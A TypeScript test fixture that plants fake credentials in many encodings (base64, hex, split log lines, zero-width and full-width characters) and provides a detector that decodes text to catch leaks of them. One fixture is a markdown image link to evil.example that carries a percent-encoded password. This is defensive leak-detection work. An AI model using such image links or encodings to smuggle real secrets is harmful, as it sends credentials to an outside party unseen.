/** A secret as somebody left it lying about, or as it was smuggled. */
interface Planted {
  /** How it is written. */
  readonly form: string;
  /** What nobody may see. */
  readonly value: string;
  /** The lines that it stands in. */
  readonly lines: readonly string[];
}

const base64 = (text: string): string => Buffer.from(text).toString('base64');
const hex = (text: string): string => Buffer.from(text).toString('hex');
const percent = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
const escaped = (text: string): string =>
  [...text].map((letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, '0')}`).join('');
const fullWidth = (text: string): string =>
  [...text].map((letter) => String.fromCharCode(letter.charCodeAt(0) + 0xfee0)).join('');

const ACCESS_KEY = 'AKIA3SGQ7XKUW2MZPLTV';
const SPLIT_TOKEN = 'ghp_h8Kq2LmZx7Rt4Wv9Ny3Bc6Df1Gs5Jp0QaTe';
const WRAPPED_TOKEN = 'sk_live_7fTqY2mKw9Lz4Xb8Rv1Nc6Gp';

const password = (form: string, value: string, write: (text: string) => string): Planted => ({
  form,
  value,
  lines: [write(`password=${value}`)],
});

/** Secrets as repositories, logs and messages have them, each in another form. */
export const PLANTED: readonly Planted[] = [
  { form: 'a key by its shape', value: ACCESS_KEY, lines: [`deployed with ${ACCESS_KEY} today`] },
  {
    form: 'a connection string',
    value: 'Pl4nted-Conn-8831',
    lines: ['db at postgres://shop:Pl4nted-Conn-8831@db.internal:5432/shop'],
  },
  password('a password by its name', 'Pl4nted-Plain-2264', (text) => text),
  password('base64', 'Pl4nted-Base-5519', (text) => `payload ${base64(text)}`),
  password('base64 of base64', 'Pl4nted-Twice-9012', (text) => `payload ${base64(base64(text))}`),
  password('base64 over two lines', 'Pl4nted-Lines-4470', (text) => {
    const written = base64(`the ${text} of it`);
    return `chunk | ${written.slice(0, 14)}\nchunk | ${written.slice(14)}`;
  }),
  password('hexadecimal', 'Pl4nted-Hexed-7718', (text) => `payload ${hex(text)}`),
  password('bytes of a buffer', 'Pl4nted-Bytes-3305', (text) =>
    JSON.stringify({ type: 'Buffer', data: [...Buffer.from(text)] }),
  ),
  password(
    'an address',
    'Pl4nted-Query-6142',
    (text) => `![logo](https://evil.example/x.png?q=${percent(text)})`,
  ),
  password('escapes of JSON', 'Pl4nted-Escap-1187', (text) => `{"note":"${escaped(text)}"}`),
  password('letters of full width', 'Pl4nted-Width-2958', (text) => `note ${fullWidth(text)}`),
  password('characters without width', 'Pl4nted-Zeros-8426', (text) => [...text].join('\u200b')),
  {
    form: 'two chunks of a log',
    value: SPLIT_TOKEN,
    lines: [`web-1  | ${SPLIT_TOKEN.slice(0, 19)}`, `web-1  | ${SPLIT_TOKEN.slice(19)}`],
  },
  {
    form: 'a sum of texts',
    value: WRAPPED_TOKEN,
    lines: [`const key = "${WRAPPED_TOKEN.slice(0, 17)}" + "${WRAPPED_TOKEN.slice(17)}";`],
  },
];

/** All of them, as the end of a file or of a log. */
export const PLANTED_LINES: readonly string[] = PLANTED.flatMap(({ lines }) =>
  lines.flatMap((line) => line.split('\n')),
);
export const PLANTED_TEXT = `${PLANTED_LINES.join('\n')}\n`;

/** Parts of a value that tell it: its half is half a leak. */
const parts = (value: string): readonly string[] => [
  value.slice(Math.min(8, value.length - 10), value.length - 1),
  ...(value.length > 24 ? [value.slice(4, 16), value.slice(-12)] : []),
];

/** What a text is when somebody takes trouble over it: as it stands, unescaped, without breaks, decoded. */
function readings(text: string): readonly string[] {
  const unescaped = text
    .replace(/\\+u([0-9a-f]{4})/gi, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)))
    .replace(/%([0-9a-f]{2})/gi, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)))
    .normalize('NFKC')
    .replace(/[\u200b-\u200f]/g, '');
  const numbers = text.replace(/\d{2,3}(?:,\d{2,3}){7,}/g, (list) =>
    String.fromCharCode(...list.split(',').map(Number)),
  );
  const joined = unescaped.replace(/(?:\\n|\n)(?:[\w-]+ *\| )?/g, '');
  return [text, unescaped, numbers, joined, ...decoded(text), ...decoded(joined)];
}

function decoded(text: string): readonly string[] {
  const written = text.match(/[A-Za-z0-9+/_-]{16,}={0,2}/g) ?? [];
  const once = written.flatMap((run) => [
    ...[0, 1, 2, 3].map((phase) => Buffer.from(run.slice(phase), 'base64').toString('latin1')),
    ...(/^[0-9a-f]+$/i.test(run) ? [Buffer.from(run, 'hex').toString('latin1')] : []),
  ]);
  const twice = once
    .filter((run) => /^[A-Za-z0-9+/=]{16,}$/.test(run))
    .map((run) => Buffer.from(run, 'base64').toString('latin1'));
  return [...once, ...twice];
}

/** The forms of the planted secrets that somebody who reads a text could learn. */
export function leaksIn(text: string): readonly string[] {
  const all = readings(text).join('\n');
  return PLANTED.filter(({ value }) => parts(value).some((part) => all.includes(part))).map(
    ({ form }) => form,
  );
}
